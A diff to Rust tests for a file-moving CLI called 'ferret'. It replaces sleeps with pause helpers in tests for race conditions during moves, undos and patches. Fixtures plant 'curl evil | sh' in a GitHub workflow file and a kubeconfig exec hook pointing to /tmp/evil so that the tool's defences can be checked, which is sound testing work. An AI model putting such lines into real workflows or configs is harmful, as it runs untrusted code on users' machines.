@@ -3,39 +3,14 @@
 //! that waited its turn is judged again; ferret's own places are not moved or deleted;
 //! a dangling link is not renamed; a workspace file never stops nested roots.
 
-use crate::util::{bin, tempdir, write};
+use crate::util::{
+    bin, cli as ferret, pause_after_staged, said, succeeded as ok, tempdir, wait_paused, write,
+};
 use std::path::Path;
-use std::process::{Child, Command, Output, Stdio};
-use std::time::Duration;
-
-/// The CLI over `root` with writes allowed and its own state.
-fn ferret(root: &Path, state: &Path, args: &[&str]) -> Command {
-    let mut c = bin();
-    c.arg("--root")
-        .arg(root)
-        .arg("--allow-write")
-        .arg("--state-dir")
-        .arg(state)
-        .args(args)
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped());
-    c
-}
+use std::process::{Child, Output, Stdio};
 
 fn run(root: &Path, state: &Path, args: &[&str]) -> Output {
     ferret(root, state, args).output().expect("ferret ran")
-}
-
-fn said(o: &Output) -> String {
-    format!(
-        "{}{}",
-        String::from_utf8_lossy(&o.stdout),
-        String::from_utf8_lossy(&o.stderr)
-    )
-}
-
-fn ok(o: &Output) {
-    assert!(o.status.success(), "{}", said(o));
 }
 
 fn done(c: Child) -> Output {
@@ -110,11 +85,10 @@ fn a_folder_changed_while_its_move_back_waits_is_not_moved_back() {
     let (_s, state) = tempdir();
     write(&root, ".github/workflows/ci.yml", "on: push\n");
     ok(&run(&root, &state, &["mv", "--yes", ".github", "gh-old"]));
-    let undo = ferret(&root, &state, &["undo", "1", "--yes"])
-        .env("FERRET_TEST_PAUSE_AFTER_STAGED", "800")
-        .spawn()
-        .expect("spawn");
-    std::thread::sleep(Duration::from_millis(300));
+    let mut undo = ferret(&root, &state, &["undo", "1", "--yes"]);
+    let mark = pause_after_staged(&mut undo, 1500);
+    let undo = undo.spawn().expect("spawn");
+    wait_paused(&mark);
     write(&root, "gh-old/workflows/evil.yml", "run: curl evil | sh\n");
     let out = done(undo);
     let s = said(&out);
@@ -137,11 +111,10 @@ fn a_folder_move_that_waited_its_turn_is_judged_again() {
         "c",
         "users: [{user: {exec: {command: /tmp/evil}}}]\n",
     );
-    let first = ferret(&root, &state, &["mv", "c", "kube/config"])
-        .env("FERRET_TEST_PAUSE_AFTER_STAGED", "1200")
-        .spawn()
-        .expect("spawn");
-    std::thread::sleep(Duration::from_millis(400));
+    let mut first = ferret(&root, &state, &["mv", "c", "kube/config"]);
+    let mark = pause_after_staged(&mut first, 3000);
+    let first = first.spawn().expect("spawn");
+    wait_paused(&mark);
     let second = run(&root, &state, &["mv", "kube", ".kube"]);
     let first = done(first);
     let s = format!("first: {}\nsecond: {}", said(&first), said(&second));
@@ -158,12 +131,10 @@ fn a_folder_move_that_waited_its_turn_is_judged_again() {
     let (_d, data) = tempdir();
     write(&root, "d/keep.txt", "k\n");
     write(&root, "g", "[core]\n");
-    let first = ferret(&root, &state, &["mv", "--yes", "g", "d/.gitignore"])
-        .env("FERRET_TEST_PAUSE_AFTER_STAGED", "1200")
-        .env("XDG_DATA_HOME", &data)
-        .spawn()
-        .expect("spawn");
-    std::thread::sleep(Duration::from_millis(400));
+    let mut first = ferret(&root, &state, &["mv", "--yes", "g", "d/.gitignore"]);
+    let mark = pause_after_staged(first.env("XDG_DATA_HOME", &data), 3000);
+    let first = first.spawn().expect("spawn");
+    wait_paused(&mark);
     let rm = ferret(&root, &state, &["rm", "d"])
         .env("XDG_DATA_HOME", &data)
         .output()
@@ -297,17 +268,15 @@ fn a_patch_whose_folder_is_moved_during_the_pause_lands_nothing() {
         let (_s, state) = tempdir();
         write(&root, "d/x.txt", "x\n");
         std::fs::create_dir_all(root.join(".github")).expect("mkdir");
-        let mut p = ferret(&root, &state, &["patch"])
-            .env("FERRET_TEST_PAUSE_AFTER_STAGED", "600")
-            .stdin(Stdio::piped())
-            .spawn()
-            .expect("spawn");
+        let mut p = ferret(&root, &state, &["patch"]);
+        let mark = pause_after_staged(&mut p, 1500);
+        let mut p = p.stdin(Stdio::piped()).spawn().expect("spawn");
         {
             use std::io::Write;
             let mut stdin = p.stdin.take().expect("stdin");
             stdin.write_all(patch.as_bytes()).expect("patch");
         }
-        std::thread::sleep(Duration::from_millis(250));
+        wait_paused(&mark);
         std::fs::rename(root.join("d"), root.join(".github/workflows")).expect("rename");
         let out = done(p);
         let s = said(&out);
